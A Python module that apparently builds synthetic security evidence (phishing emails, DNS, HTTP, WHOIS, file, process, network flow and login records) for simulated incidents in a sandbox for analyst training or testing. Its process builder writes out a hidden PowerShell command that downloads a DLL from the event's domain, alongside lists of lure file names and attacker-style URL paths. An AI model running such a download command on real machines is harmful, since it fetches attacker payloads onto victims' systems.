"""The raw objects behind events, in the shapes that sensors, mail gateways and analysts hand over.

Each builder gets the event's own domain and address, so that the evidence agrees with the indicators.
"""

from collections.abc import Callable

from cf1_mcp.sandbox.sample.sample_event import Record, SeededRandom, fingerprint

_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:140) Gecko/20100101",
    "python-requests/2.31",
    "curl/8.5",
    "Go-http-client/1.1",
)
_PEOPLE = ("a-weber", "j-novak", "m-huber", "s-okafor", "t-silva", "k-tanaka", "l-dubois", "e-larsen")
_SUBJECTS = (
    "Overdue statement",
    "Updated agenda",
    "Your interview",
    "New payment details",
    "Tender documents",
    "Mailbox full",
)
_FILES = ("statement.docm", "agenda.lnk", "offer.pdf.exe", "update.dll", "backup.iso", "invoice.xlsm", "codec.exe")
_PATHS = ("/owa/auth.php", "/api/v1/session", "/remote/logincheck", "/cgi-bin/status", "/wp-login.php", "/gate.php")


def email(dice: SeededRandom, domain: str, ip: str) -> Record:
    sender = f"{dice.pick(('billing', 'hr', 'notice', 'support'))}@{domain}"
    name = dice.pick(_FILES)
    return {
        "headers": {
            "From": sender,
            "To": f"{dice.pick(_PEOPLE)}@example.org",
            "Reply-To": sender,
            "Subject": dice.pick(_SUBJECTS),
            "Message-ID": f"<{dice.below(10**9)}@{domain}>",
            "X-Originating-IP": f"[{ip}]",
            "Authentication-Results": f"mx.example.org; spf={dice.pick(('pass', 'softfail', 'none'))}; dkim=none",
        },
        "attachments": [{"name": name, "sha256": fingerprint(name + domain), "size": 20_000 + dice.below(400_000)}],
    }


def dns(dice: SeededRandom, domain: str, ip: str) -> Record:
    return {
        "question": {"name": domain, "type": "AAAA" if ":" in ip else "A"},
        "rcode": "NOERROR",
        "answers": [{"name": domain, "ttl": dice.pick((60, 300, 3600)), "data": ip}],
        "nameServers": [f"ns{number}.{domain.split('.', 1)[1]}" for number in (1, 2)],
        "clients": 1 + dice.below(40),
    }


def http(dice: SeededRandom, domain: str, ip: str) -> Record:
    verb = dice.pick(("GET", "POST", "POST"))
    return {
        "request": f"{verb} {dice.pick(_PATHS)} HTTP/1.1",
        "headers": {"Host": domain, "User-Agent": dice.pick(_AGENTS), "Accept": "*/*"},
        "status": dice.pick((200, 200, 302, 403, 500)),
        "clientIp": ip,
        "bytes": dice.below(90_000),
    }


def whois(dice: SeededRandom, domain: str, ip: str) -> Record:
    return {
        "domain": domain,
        "registrar": dice.pick(("Example Registrar One", "Example Registrar Two")),
        "ageDays": 1 + dice.below(30),
        "nameServers": ["ns1.example.net", "ns2.example.net"],
        "registrant": {"email": f"hostmaster@{domain}", "country": dice.pick(("PA", "SC", "IS", "BZ"))},
        "resolvesTo": [ip],
    }


def file(dice: SeededRandom, domain: str, ip: str) -> Record:
    name = dice.pick(_FILES)
    seed = f"{name} {dice.below(10**6)}"
    return {
        "name": name,
        "size": 8_000 + dice.below(4_000_000),
        "sha256": fingerprint(seed),
        "magic": dice.pick(("PE32+ executable", "Composite Document File", "ISO 9660", "MS Windows shortcut")),
        "contacts": [domain, ip],
        "signed": dice.chance(0.2),
    }


def process(dice: SeededRandom, domain: str, ip: str) -> Record:
    return {
        "host": f"WS-{1000 + dice.below(9000)}",
        "user": dice.pick(_PEOPLE),
        "parent": dice.pick(("winword.exe", "explorer.exe", "services.exe", "w3wp.exe")),
        "commandLine": f"powershell -w hidden -c iwr https://{domain}/{dice.below(9999)} -OutFile update.dll",
        "remoteAddress": ip,
    }


def flow(dice: SeededRandom, domain: str, ip: str) -> Record:
    return {
        "destination": {"address": ip, "serverName": domain, "port": dice.pick((443, 443, 8443, 53, 4433))},
        "ja3": fingerprint(f"flow {dice.below(20)}")[:32],
        "bytesOut": 1_000 + dice.below(80_000_000),
        "bytesIn": 500 + dice.below(900_000),
        "intervalSeconds": dice.pick((30, 60, 300, 3600)),
    }


def login(dice: SeededRandom, domain: str, ip: str) -> Record:
    return {
        "service": dice.pick(("vpn", "mail", "sso")),
        "account": f"{dice.pick(_PEOPLE)}@example.org",
        "sourceIp": ip,
        "result": dice.pick(("failure", "failure", "success")),
        "mfa": dice.pick(("not asked", "denied", "approved")),
        "userAgent": dice.pick(_AGENTS),
        "referrer": f"https://{domain}/",
    }


Builder = Callable[[SeededRandom, str, str], Record]
